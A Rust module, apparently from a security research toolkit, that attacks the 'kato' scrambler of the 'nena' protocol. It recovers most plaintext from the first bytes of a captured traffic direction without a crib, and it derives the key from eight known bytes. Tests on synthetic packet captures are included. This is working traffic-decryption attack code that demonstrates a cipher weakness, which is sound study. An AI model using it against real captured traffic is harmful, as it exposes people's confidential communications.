//! kato read with no crib at all: the first bytes of a direction, in a capture.
//!
//! [`crate::attack::recover_from_start`] gives 56 of every 65 plaintext bytes of a
//! direction's scrambled stream from its first byte on, without any known plaintext (the
//! scrambler's initial window is 56 zero bytes and the key). On a capture, this module finds
//! the runs that begin at a direction's first protected byte (the capture shows the nena
//! handshake message right before them: [`crate::datalevel::DataStream::protected_from`])
//! and recovers them. A run that begins later is not touched: the algebra needs the
//! direction's first byte.

use crate::attack::{recover_from_start, Chunk};
use crate::datalevel::{DataCapture, Direction};
use serde::Serialize;

/// What a direction's first run gave with no crib.
#[derive(Debug, Clone, Serialize)]
pub struct StartRecovery {
    pub connection: String,
    pub direction: Direction,
    /// DSN of the direction's first protected byte (the run's first byte).
    pub dsn: u64,
    /// Bytes of the run.
    pub len: u64,
    /// Of them, plaintext bytes recovered.
    pub recovered: u64,
    /// The recovered bytes as contiguous ranges (56 bytes at most each).
    pub chunks: Vec<Chunk>,
    /// The captured (scrambled) bytes of the run.
    #[serde(skip)]
    pub scrambled: Vec<u8>,
    /// The plaintext of each position of the run, where known.
    #[serde(skip)]
    pub plain: Vec<Option<u8>>,
}

/// [`recover_from_start`] on every run of `capture` that begins at its direction's first
/// protected byte.
pub fn from_starts(capture: &DataCapture) -> Vec<StartRecovery> {
    let mut out = Vec::new();
    for s in &capture.streams {
        let Some(first) = s.protected_from else {
            continue;
        };
        let Some(run) = s.runs.iter().find(|r| r.dsn == first) else {
            continue;
        };
        let plain = recover_from_start(&run.bytes);
        let mut chunks: Vec<Chunk> = Vec::new();
        for (k, p) in plain.iter().enumerate() {
            let Some(b) = *p else { continue };
            let dsn = run.dsn + k as u64;
            match chunks.last_mut() {
                Some(c) if c.dsn + c.len == dsn => {
                    c.bytes.push(b);
                    c.len += 1;
                }
                _ => chunks.push(Chunk {
                    dsn,
                    len: 1,
                    offset: 0,
                    bytes: vec![b],
                }),
            }
        }
        out.push(StartRecovery {
            connection: s.connection.clone(),
            direction: s.direction,
            dsn: run.dsn,
            len: run.bytes.len() as u64,
            recovered: plain.iter().flatten().count() as u64,
            chunks,
            scrambled: run.bytes.clone(),
            plain,
        });
    }
    out
}

/// A direction's 8-byte key from its first 65 scrambled bytes (`out`, from the direction's
/// first byte) and the plaintext of positions `57..=64` (`known`): there
/// `out[k] ^ out[k-1] = b[k] ^ key[k-57]`. An attacker who knows (or guesses) those eight
/// plaintext bytes, e.g. of a file it knows, has the key; `None` if `out` is shorter.
pub fn key_from_start(out: &[u8], known: &[u8; 8]) -> Option<[u8; 8]> {
    if out.len() < 65 {
        return None;
    }
    Some(std::array::from_fn(|j| {
        out[57 + j] ^ out[56 + j] ^ known[j]
    }))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::craft::joined_subflow;
    use crate::datalevel::data_streams;
    use nena_codec::Scrambler;

    /// What the codec sends for `plain` under `key`, from the direction's first byte.
    fn scrambled(key: [u8; 8], plain: &[u8]) -> Vec<u8> {
        let mut out = plain.to_vec();
        Scrambler::new(key).scramble_in_place(&mut out);
        out
    }

    #[test]
    fn with_no_crib_56_of_every_65_bytes_come_back_from_the_start() {
        let plain = nena_testkit::random_bytes(3, 1000);
        for key in [[1, 2, 3, 4, 5, 6, 7, 8], [0xff; 8], [0; 8]] {
            let got = recover_from_start(&scrambled(key, &plain));
            for (k, g) in got.iter().enumerate() {
                let known = (1..=56).contains(&(k % 65));
                assert_eq!(g.is_some(), known, "position {k}");
                if let Some(b) = g {
                    assert_eq!(*b, plain[k], "position {k} recovered wrong");
                }
            }
            // 15 full periods of 65 and 25 bytes more: 15 * 56 + 24.
            assert_eq!(got.iter().flatten().count(), 15 * 56 + 24);
        }
        // The same bytes anywhere but at the start: what comes back is not the plaintext.
        let w = scrambled([9; 8], &plain);
        let shifted = recover_from_start(&w[100..]);
        let wrong = (1..=56)
            .filter(|&k| shifted[k] != Some(plain[100 + k]))
            .count();
        assert!(wrong > 40, "only {wrong} of 56 differ");
    }

    #[test]
    fn eight_known_bytes_at_57_give_the_key() {
        let plain = nena_testkit::random_bytes(4, 200);
        let key = [0x10, 0x32, 0x54, 0x76, 0x98, 0xba, 0xdc, 0xfe];
        let w = scrambled(key, &plain);
        let known: [u8; 8] = plain[57..65].try_into().unwrap();
        assert_eq!(key_from_start(&w, &known), Some(key));
        assert_eq!(key_from_start(&w[..64], &known), None);
        let mut wrong = known;
        wrong[3] ^= 1;
        assert_ne!(key_from_start(&w, &wrong), Some(key));
    }

    #[test]
    fn a_run_that_follows_a_handshake_message_in_a_capture_is_read_without_a_crib() {
        let c = "198.18.2.2:40003".parse().unwrap();
        let s = "198.18.3.2:4433".parse().unwrap();
        let text = b"PUT report.txt: the quarterly figures follow, line by line. ".repeat(20);
        let mut stream = vec![0x8b, b'N', b'E', b'N', b'A', 1, 1, 0, 21, 2, 2, 16];
        stream.extend_from_slice(&[7u8; 16]); // the kato keys of a hello
        stream.extend_from_slice(&[1, 0]); // plain offered too
        let hello = stream.len();
        stream.extend_from_slice(&scrambled([7; 8], &text));
        let base = 5_000_000u64;
        // Two captures: one with the hello before the scrambled bytes, one without it.
        for (from, starts) in [(0usize, 1usize), (hello, 0)] {
            let pcap = joined_subflow(
                c,
                s,
                0x1234_5678,
                &[(base + from as u64, &stream[from..])],
                1400,
                true,
                3,
            );
            let d = data_streams(&pcap[..]).unwrap();
            let r = from_starts(&d);
            assert_eq!(r.len(), starts, "{:?}", d.streams[0].protected_from);
            let Some(r) = r.first() else { continue };
            assert_eq!(r.dsn, base + hello as u64);
            assert_eq!(r.len, text.len() as u64);
            let full = text.len() / 65;
            let rest = (text.len() % 65).saturating_sub(1).min(56);
            assert_eq!(r.recovered, (full * 56 + rest) as u64);
            for ch in &r.chunks {
                let at = (ch.dsn - r.dsn) as usize;
                assert_eq!(ch.bytes, text[at..at + ch.len as usize]);
            }
            assert_eq!(r.chunks.iter().map(|c| c.len).sum::<u64>(), r.recovered);
        }
    }
}
